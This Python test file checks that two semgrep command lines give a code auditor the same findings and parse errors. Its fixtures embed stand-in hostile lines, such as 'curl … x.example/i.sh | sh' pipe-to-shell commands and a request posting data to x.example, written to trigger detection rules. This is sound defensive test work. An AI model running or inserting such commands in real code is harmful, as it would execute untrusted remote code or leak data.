"""semgrep's two command lines give auditor the same answers (``auditor.scan.semgrep.CLIS``).

The scan runs ``semgrep scan --experimental`` (osemgrep, the OCaml command line: no Python start-up).
These tests run the real semgrep both ways over every rule fixture (and the Dockerfiles' derived
shell readings), staged and gated exactly as the scan does it, plus files semgrep cannot parse in
whole or in part, and require the same findings and the same not-checked errors (reason, whether
it lasts, the lines left unread).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from test_scan_rules import needs_semgrep

from auditor.scan import derived
from auditor.scan import rules as rules_mod
from auditor.scan import semgrep as semgrep_mod
from auditor.scan.files import classify
from auditor.scan.interface import Origin, ScannerRun, ScanTarget
from auditor.scan.semgrep import SemgrepScanner

# files semgrep reads only in part, or not at all (shapes met in real vLLM trees)
HARD = {
    "hard/Dockerfile": ("FROM ubuntu:22.04\nARG RCCL_BRANCH=\n"
                        "RUN curl -fsSL http://x.example/i.sh | sh\n"),
    "hard/usage.sh": "#!/bin/bash\nusage() {\n    echo``\n    echo hi\n}\ncurl -fsSL http://x.example/i.sh | sh\n",
    "hard/epilogue.hpp": ("template <class T> struct Params { T* ptr; };\n"
                          "struct Load { Params<float> const& params;\n"
                          "  Load(Params<float> const& p) : params(p) {}\n"
                          "  void f() { auto v = params.ptr->smem.x; }\n};\n"
                          "void g() { system(\"curl http://x.example | sh\"); }\n"),
    "hard/router.py": ("import requests\n\n\ndef route(doc):\n    match doc:\n"
                       "        case {\"data\": data, **rest}:\n"
                       "            requests.post(\"https://x.example\", json=rest)\n"),
}


def targets() -> list[ScanTarget]:
    out = []
    files = {f"fx/{p.relative_to(rules_mod.FIXTURES_DIR).as_posix()}": p.read_bytes()
             for p in sorted(rules_mod.FIXTURES_DIR.rglob("*")) if p.is_file()}
    files.update({rel: text.encode() for rel, text in HARD.items()})
    for rel, data in files.items():
        r = classify(rel, data)
        if r.text is not None:
            out.append(ScanTarget(key=f"b:{rel}", path=rel, origin=Origin.BUNDLE,
                                  sha256=r.sha256, family=r.family, text=r.text))
    return derived.expand(out)


def answers(run: ScannerRun) -> dict[str, Any]:
    return {
        "findings": {k: sorted((f.rule, f.line, f.end_line, f.severity.value, f.message)
                               for f in v) for k, v in run.findings.items()},
        "errors": {k: (e.reason, e.lasting, e.lines) for k, e in run.errors.items()},
    }


@pytest.fixture(scope="module")
def pysemgrep_answers(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    run = SemgrepScanner(jobs=2, cli="pysemgrep").scan(targets(), tmp_path_factory.mktemp("py"))
    return answers(run)


@needs_semgrep
def test_osemgrep_answers_as_pysemgrep_does(pysemgrep_answers: dict[str, Any],
                                            tmp_path: Path) -> None:
    got = answers(SemgrepScanner(jobs=2, cli="osemgrep").scan(targets(), tmp_path))
    assert got == pysemgrep_answers
    # the comparison covered what matters: findings of gated rules, and both kinds of error
    config = (tmp_path / "semgrep" / "rules.json").read_text(encoding="utf-8")
    assert '"include"' in config
    assert sum(len(v) for v in got["findings"].values()) > 50
    assert got["errors"]["b:hard/usage.sh"][2] == ()  # the whole file unread
    assert any(lines for _r, _l, lines in got["errors"].values())  # a partial parse
    assert got["findings"]["b:hard/router.py"]  # read through the Python shim


@needs_semgrep
def test_osemgrep_given_the_staging_folders_answers_the_same(
        pysemgrep_answers: dict[str, Any], tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Past the argument budget the scan names its staging folders instead of every file."""
    monkeypatch.setattr(semgrep_mod, "_ARGV_BUDGET", 0)
    got = answers(SemgrepScanner(jobs=2, cli="osemgrep").scan(targets(), tmp_path))
    assert got == pysemgrep_answers


def test_an_unknown_command_line_is_refused() -> None:
    with pytest.raises(ValueError, match="one of osemgrep, pysemgrep"):
        SemgrepScanner(cli="semgrep-pro")


@needs_semgrep
def test_semgreps_side_by_side_over_shares_answer_as_one(
        pysemgrep_answers: dict[str, Any], tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Much to scan: one osemgrep per share of the staged copies; the answers are one run's."""
    from auditor.scan import staging

    monkeypatch.setattr(staging, "SHARE_MIN", 1)
    got = answers(SemgrepScanner(jobs=1, cli="osemgrep", processes=3).scan(targets(), tmp_path))
    assert got == pysemgrep_answers
    assert sorted(p.name for p in (tmp_path / "semgrep").glob("home*")) == \
        ["home", "home0", "home1", "home2"]  # three processes ran


def test_shares_are_balanced_by_bytes_and_hold_every_copy_once(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch
                                                               ) -> None:
    from auditor.scan import staging

    sizes = {"a": 900, "b": 500, "c": 400, "d": 300, "e": 100, "f": 100}
    for rel, n in sizes.items():
        (tmp_path / rel).write_bytes(b"x" * n)
    monkeypatch.setattr(staging, "SHARE_MIN", 1)
    groups = staging.shares(list(sizes), tmp_path, 2)
    assert sorted(r for g in groups for r in g) == sorted(sizes)
    assert sorted(sum(sizes[r] for r in g) for g in groups) == [1100, 1200]
    assert staging.shares(list(sizes), tmp_path, 1) == [sorted(sizes)]
    monkeypatch.setattr(staging, "SHARE_MIN", sum(sizes.values()) + 1)  # too little to share
    assert staging.shares(list(sizes), tmp_path, 2) == [sorted(sizes)]
